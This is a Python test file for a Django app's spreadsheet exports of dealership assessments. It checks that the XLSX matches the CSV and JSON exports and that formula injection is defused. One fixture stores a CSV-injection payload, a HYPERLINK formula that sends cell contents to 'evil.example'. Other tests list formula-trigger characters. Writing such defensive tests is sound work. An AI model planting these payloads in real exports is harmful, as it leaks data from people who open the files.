"""The XLSX exports, opened back with openpyxl: the portfolio says what its CSV says (with
the same filters), one assessment's workbook says what its JSON export says, and no
cell of either can run as a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from common.spreadsheets import csv_text, safe_cell
from common.xlsx import Sheet, write_xlsx
from maturity.models import AssessmentReview, RoadmapActionStatus
from tests.factories import (
    AssignmentFactory,
    BrandFactory,
    ConsultantFactory,
    DealerGroupFactory,
    DealershipFactory,
    submitted_assessment,
)
from tests.maturity.portfolio_helpers import areas, draft, submit

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def workbook(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"].startswith("attachment;")
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=False)


def as_csv_text(value: object) -> str:
    """A cell as the English CSV writes it."""
    if value is None:
        return ""
    if isinstance(value, float):
        return f"{value:.1f}"
    if isinstance(value, datetime):
        return value.date().isoformat()
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


@pytest.fixture
def consultant(db):
    return ConsultantFactory(email="sheets@example.com")


def follow(consultant, **kwargs):
    dealership = DealershipFactory(**kwargs)
    AssignmentFactory(consultant=consultant, dealership=dealership)
    return dealership


@pytest.fixture
def portfolio(consultant):
    kia = BrandFactory(name="Kia")
    lac = follow(
        consultant,
        name="Garage du Lac",
        city="Annecy",
        region="ara",
        group=DealerGroupFactory(name="Groupe Horizon"),
    )
    lac.brands.add(kia)
    submit(lac, rung=3, overall=62.5, days_ago=40)
    latest = submit(lac, rung=3, overall=58.25, days_ago=2, scores=areas(55.0))
    AssessmentReview.objects.create(assessment=latest.assessment, reviewed_at=latest.computed_at)
    draft(follow(consultant, name="Garage de la Mayenne", city="Laval", region="pdl"))
    follow(consultant, name='=HYPERLINK("http://evil.example/?"&A1)', city="-Tours", region="cvl")
    return consultant


@pytest.mark.parametrize("query", [{}, {"region": "ara"}, {"status": "draft", "sort": "-name"}])
def test_the_portfolio_xlsx_says_what_the_csv_says(client, portfolio, settings, query):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    client.force_login(portfolio)
    body = b"".join(client.get(reverse("portfolio_export_csv"), query).streaming_content)
    csv_rows = list(csv.reader(io.StringIO(body.decode("utf-8")[1:])))

    sheet = workbook(client.get(reverse("portfolio_export_xlsx"), query)).active
    xlsx_rows = [[as_csv_text(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    assert xlsx_rows == csv_rows
    assert len(xlsx_rows) > 1


def test_the_portfolio_xlsx_keeps_numbers_and_dates_and_defuses_formulas(client, portfolio):
    client.force_login(portfolio)
    sheet = workbook(client.get(reverse("portfolio_export_xlsx"), {"sort": "name"})).active
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    lac = rows["Garage du Lac"]
    assert lac[7].value == 58.2 and lac[7].data_type == "n"  # a number, not a text
    assert lac[9].value == -4.2 and lac[9].data_type == "n"  # negative: still a number
    assert isinstance(lac[10].value, datetime)
    evil = next(row for name, row in rows.items() if "HYPERLINK" in name)
    assert evil[0].value.startswith("'=") and evil[0].data_type == "s"
    assert evil[1].value == "'-Tours"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_buttons_lead_to_both_files(client, portfolio, owner, dealership):
    client.force_login(portfolio)
    page = client.get(reverse("portfolio"), {"region": "ara"}).content.decode()
    assert reverse("portfolio_export_xlsx") + "?region=ara" in page
    scored = submitted_assessment(dealership=dealership, user=owner)
    client.force_login(owner)
    results = client.get(reverse("assessment_results", args=[scored.pk])).content.decode()
    assert reverse("assessment_export_xlsx", args=[dealership.pk, scored.pk]) in results


def test_the_assessment_xlsx_says_what_the_json_says(client, dealership, owner, settings):
    scored = submitted_assessment(dealership=dealership, user=owner)
    RoadmapActionStatus.objects.create(
        dealership=dealership, action_key="website_mobile", status="in_progress"
    )
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    client.force_login(owner)
    args = [dealership.pk, scored.pk]
    document = json.loads(client.get(reverse("assessment_export_json", args=args)).content)
    book = workbook(client.get(reverse("assessment_export_xlsx", args=args)))
    assert book.sheetnames == ["Assessment", "Answers", "Scores", "Roadmap"]

    summary = {row[0]: row[1] for row in book["Assessment"].iter_rows(min_row=2, values_only=True)}
    assert summary["Dealership"] == "Auto Rivière"
    assert summary["Rung"] == document["result"]["rung"]
    assert summary["Overall score"] == document["result"]["overall_score"]

    answers = list(book["Answers"].iter_rows(min_row=2, values_only=True))
    assert [(key, text, label) for _area, key, text, label in answers] == [
        (a["question"], a["text"]["en"], safe_cell(a["label"]["en"])) for a in document["answers"]
    ]
    scores = list(book["Scores"].iter_rows(min_row=2, values_only=True))
    assert [(key, score) for key, _title, score, _comment in scores] == [
        (a["area"], a["score"]) for a in document["result"]["areas"]
    ]
    roadmap = list(book["Roadmap"].iter_rows(min_row=2, values_only=True))
    assert [key for _h, key, _t, _a, _s in roadmap] == [a["action"] for a in document["roadmap"]]
    statuses = {key: status for _h, key, _t, _a, status in roadmap}
    assert statuses["website_mobile"] == "In progress"


def test_the_assessment_xlsx_is_in_the_readers_language(client, dealership, owner):
    scored = submitted_assessment(dealership=dealership, user=owner)
    client.force_login(owner)
    url = reverse("assessment_export_xlsx", args=[dealership.pk, scored.pk])
    book = workbook(client.get(url))  # French by default
    assert book.sheetnames == ["Évaluation", "Réponses", "Scores", "Feuille de route"]


def test_a_draft_exports_its_answers_without_scores(client, dealership, owner):
    client.force_login(owner)
    current = draft(dealership)
    book = workbook(client.get(reverse("assessment_export_xlsx", args=[dealership.pk, current.pk])))
    assert len(book.sheetnames) == 2


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (" =1+1", "' =1+1"),
        ("\t\r\n =1", "'\t\r\n =1"),
        ("\u3000=1", "'\u3000=1"),
        ("\u200b=1", "'\u200b=1"),
        ("\ufeff+1", "'\ufeff+1"),
        ("＋33 6", "'＋33 6"),
        ("－1", "'－1"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("﹦1", "'﹦1"),
        ("=\u0338 1", "'=\u0338 1"),
        ("-", "'-"),
        ("", ""),
        ("   ", "   "),
        ("Auto Rivière", "Auto Rivière"),
        (3, 3),
        (Decimal("-2.5"), Decimal("-2.5")),
        ("Garage -Nord", "Garage -Nord"),
        (-3.5, -3.5),
        (None, ""),
    ],
)
def test_a_cell_that_could_run_as_a_formula_is_written_as_text(value, written):
    assert safe_cell(value) == written


# Characters that lead a formula, in every form a spreadsheet (or NFKC) reads as one.
TRIGGERS = st.sampled_from(list("=+-@＝＋－＠﹦﹢﹣﹫₌⁺₊"))
# Leading characters a reader skips over before the trigger.
SKIPPED = st.text(st.sampled_from(list(" \t\r\n\u00a0\u3000\u2028\u200b\ufeff\x00\x01")))
SPECIAL = st.sampled_from(list(" \t\r\n=+-@＝＋－＠'\u200b\u3000"))
TEXT = st.text(st.one_of(st.characters(codec="utf-8"), SPECIAL), max_size=30)


@settings(max_examples=300, deadline=None)
@given(skipped=SKIPPED, trigger=TRIGGERS, rest=TEXT)
def test_it_neutralises_every_formula_start_after_skipped_characters(skipped, trigger, rest):
    text = skipped + trigger + rest
    assert safe_cell(text) == "'" + text


@settings(max_examples=300, deadline=None)
@given(text=TEXT)
def test_it_only_ever_prefixes_an_apostrophe_and_keeps_its_answer(text):
    written = safe_cell(text)
    assert written in {text, "'" + text}
    assert safe_cell(written) == written  # the apostrophe makes it plain text


@settings(max_examples=200, deadline=None)
@given(lead=st.characters(categories=["L", "N"], codec="utf-8"), rest=TEXT)
def test_it_leaves_a_text_that_starts_with_a_letter_or_a_digit(lead, rest):
    text = lead + rest
    assert safe_cell(text) == text


@settings(max_examples=200, deadline=None)
@given(
    value=st.one_of(
        st.integers(),
        st.floats(allow_nan=False),
        st.decimals(allow_nan=False),
        st.dates(),
        st.datetimes(),
        st.booleans(),
    )
)
def test_it_keeps_numbers_and_dates_as_they_are(value):
    assert safe_cell(value) is value


@settings(max_examples=40, deadline=None)
@given(
    rows=st.lists(
        st.lists(st.one_of(TEXT, st.integers(-(10**6), 10**6)), min_size=1, max_size=4),
        min_size=1,
        max_size=4,
    )
)
def test_no_xlsx_or_csv_cell_can_run_as_a_formula(rows):
    target = io.BytesIO()
    write_xlsx([Sheet(title="Sheet", header=["a"], rows=rows)], target)
    book = load_workbook(io.BytesIO(target.getvalue()))
    for written, given_row in zip(book.active.iter_rows(min_row=2), rows, strict=True):
        for cell, value in zip(written, given_row, strict=False):
            assert cell.data_type != "f"
            if isinstance(value, int):
                assert cell.value == value and cell.data_type == "n"
            elif cell.value is not None:
                assert cell.value[:1] not in set("=+-@\t\r") or cell.value.startswith("'")
    for given_row in rows:
        line = io.StringIO()
        csv.writer(line).writerow([csv_text(value, decimal=".") for value in given_row])
        for value, read in zip(
            given_row, next(csv.reader(io.StringIO(line.getvalue()))), strict=True
        ):
            assert read == str(safe_cell(value))
